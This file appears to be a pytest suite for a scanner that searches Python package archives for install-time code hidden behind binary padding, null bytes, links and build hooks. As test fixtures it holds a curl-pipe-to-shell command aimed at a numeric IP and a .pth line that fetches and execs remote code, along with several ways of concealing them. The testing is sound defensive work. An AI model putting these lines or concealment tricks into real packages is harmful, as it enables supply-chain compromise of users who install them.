"""Bytes that no text has hide nothing from a reader that searches what programs read on."""

import gzip

import pytest

NOISE = bytes([1, 2, 3, 0x80, 0x81, 0xFE]) * 1000
"""More than the first 4,096 bytes, by which the type of a file is determined."""
SHELL = b"curl -s http://198.51.100.7/x | sh\n"
PIPE = "download_pipe_shell"


def noisy(code: bytes, comment: bytes = b"# ") -> bytes:
    return comment + NOISE + b"\n" + code


def python(code: bytes) -> bytes:
    return b"# coding: latin-1\n" + noisy(code)


@pytest.mark.parametrize("noise", [NOISE, b"\0", b"\0" * 3000, b"\x01\x02\x03" * 200])
@pytest.mark.parametrize(
    "name", ["bin/tool", "Makefile", "build.mk", "demo/x.ts", ".git/hooks/post-merge", "demo/x.inc"]
)
def test_noise_before_a_command_does_not_hide_it(name, noise, make, examine):
    data = b"# " + noise + b"\n\t" + SHELL
    examine(make.sdist({name: data})).is_seen(PIPE, f"demo-1.0/{name}")


@pytest.mark.parametrize("name", ["demo-1.0.data/scripts/tool", "demo-1.0.data/data/etc/profile.d/x", "demo/x.html"])
def test_noise_before_a_command_does_not_hide_it_in_a_wheel(name, make, examine):
    examine(make.wheel({name: noisy(SHELL)}), "demo-1.0-py3-none-any.whl").is_seen(PIPE, name)


def test_a_zero_byte_makes_no_text_of_any_name_binary(make, examine):
    examine(make.sdist({"demo/x.dat": b"# a comment of some length \0\n" + SHELL})).is_seen(PIPE, "demo-1.0/demo/x.dat")


@pytest.mark.parametrize("start", [b"\x80\x01\x02", b"\x80\x04\x95", b"\x93NUMPY"])
def test_a_path_file_is_read_to_its_end(start, make, examine):
    line = b"import urllib.request; exec(urllib.request.urlopen('http://example.invalid/stage').read())\n"
    data = start + NOISE + b"\n" + line
    examine(make.wheel({"boot.pth": data}), "demo-1.0-py3-none-any.whl").is_found("boot.pth", "install")


SETUPS = {
    "executed": b"exec(open('src/build.bin', encoding='latin-1').read())\n",
    "cffi": b"from setuptools import setup\nsetup(cffi_modules=['src/build.bin:ffi'])\n",
    "started": b"import subprocess, sys\nsubprocess.call([sys.executable, 'src/build.bin'])\n",
}


@pytest.mark.parametrize("setup", SETUPS.values(), ids=SETUPS)
def test_binary_data_that_setup_runs_is_python_in_its_encoding(setup, make, examine):
    files = {"setup.py": setup, "src/build.bin": python(make.code)}
    examine(make.sdist(files)).is_found("demo-1.0/src/build.bin", "install")


def test_binary_data_that_a_backend_runs_is_python_in_its_encoding(make, examine):
    pyproject = (
        b'[build-system]\nbuild-backend = "poetry.core.masonry.api"\n[tool.poetry.build]\nscript = "tools/make.bin"\n'
    )
    files = {"pyproject.toml": pyproject, "tools/make.bin": python(make.code)}
    examine(make.sdist(files)).is_found("demo-1.0/tools/make.bin", "install")


def test_binary_data_that_setup_starts_in_a_shell_is_searched(make, examine):
    files = {"setup.py": b"import os\nos.system('sh tools/make.bin')\n", "tools/make.bin": noisy(SHELL)}
    examine(make.sdist(files)).is_seen(PIPE, "demo-1.0/tools/make.bin")


@pytest.mark.parametrize(
    ("name", "text"), [("setup.py", b"setup(scripts=['x.bin'])"), ("src/a.c", b'#include "../x.bin"\n')]
)
def test_binary_data_that_is_named_is_searched(name, text, make, examine):
    examine(make.sdist({name: text, "x.bin": noisy(SHELL)})).is_seen(PIPE, "demo-1.0/x.bin")


def test_binary_data_that_is_executed_and_not_understood_is_named(make, examine):
    files = {"setup.py": b"exec(decrypt(open('x.bin', 'rb').read()))\n", "x.bin": NOISE}
    examine(make.sdist(files)).is_named("1 executed binary")


def test_binary_data_that_is_too_large_to_be_held_is_named(make, examine):
    files = {"setup.py": b"import os\nos.system('sh x.bin')\n", "x.bin": noisy(SHELL) + NOISE * 400}
    examine(make.sdist(files)).is_named("1 executed binary")


LINKS = {
    "symbolic": [("setup.py", "2", "notes.bin")],
    "hard": [("setup.py", "1", "demo-1.0/notes.bin")],
    "chain": [("setup.py", "2", "l0"), ("l0", "2", "l1"), ("l1", "2", "notes.bin")],
    "dotted": [("setup.py", "2", "a/../notes.bin")],
    "hard to symbolic": [("l0", "2", "notes.bin"), ("setup.py", "1", "demo-1.0/l0")],
    "through a folder": [("a", "2", "."), ("setup.py", "2", "a/a/notes.bin")],
}


@pytest.mark.parametrize("before", [True, False], ids=["target first", "target last"])
@pytest.mark.parametrize("links", LINKS.values(), ids=LINKS)
def test_a_link_is_judged_by_what_it_points_to(links, before, make, examine):
    target = [make.member("demo-1.0/notes.bin", python(make.code))]
    linked = [make.member(f"demo-1.0/{name}", kind=kind.encode(), link=link) for name, kind, link in links]
    members = [*target, *linked] if before else [*linked, *target]
    data = gzip.compress(make.tar(make.member(*make.info), *members), mtime=0)
    examine(data).is_found("demo-1.0/setup.py", "install")


def test_noise_in_data_that_nothing_runs_is_no_code(make, examine):
    seen = examine(
        make.sdist({"demo/model.bin": NOISE, "demo/logo.png": b"\x89PNG\r\n\x1a\n" + NOISE, "demo/a": NOISE})
    )
    assert ("ok", 3, 0) == (
        seen.row.status,
        seen.row.values["files_binary"],
        seen.row.values["code_text_files"],
    )
